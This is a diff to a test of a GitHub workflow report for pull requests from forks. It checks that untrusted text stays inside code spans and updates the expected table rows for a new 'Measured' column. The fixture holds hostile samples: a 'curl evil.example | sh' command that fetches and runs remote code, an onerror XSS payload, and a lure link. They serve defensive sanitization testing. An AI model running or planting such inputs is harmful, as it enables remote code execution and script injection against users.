@@ -118,8 +118,9 @@ describe('pull request from a fork → workflow_run report', () => {
     expect(body).toContain('`@octo/admins please [approve](https://evil.example/x) <img src=x onerror=alert(1)>` (hint: `` run `curl evil.example | sh` @someone ``)');
     const outside = body.replace(/(`+)[\s\S]*?\1(?!`)/g, ''); // the body with its code spans taken out
     expect(outside).not.toMatch(/@|<img|evil\.example/);
-    expect(body).toContain(`| outro | ✅ delivered | 0:01.0 | [artifact](https://github.com/octo/demo/actions/runs/600/artifacts/${ids['voiceover-outro']}) · [task](https://nemovideo.com/workspace/claim?task=t1) |`);
-    expect(body).toContain('| intro | ❌ failed | — | — |');
+    // The Measured column is new (deliberately): these crafted results carry no qa, so "—".
+    expect(body).toContain(`| outro | ✅ delivered | 0:01.0 | — | [artifact](https://github.com/octo/demo/actions/runs/600/artifacts/${ids['voiceover-outro']}) · [task](https://nemovideo.com/workspace/claim?task=t1) |`);
+    expect(body).toContain('| intro | ❌ failed | — | — | — |');
     expect(JSON.parse(report.outputs['artifact-urls']!)).toEqual({ outro: `https://github.com/octo/demo/actions/runs/600/artifacts/${ids['voiceover-outro']}` });
   });
 
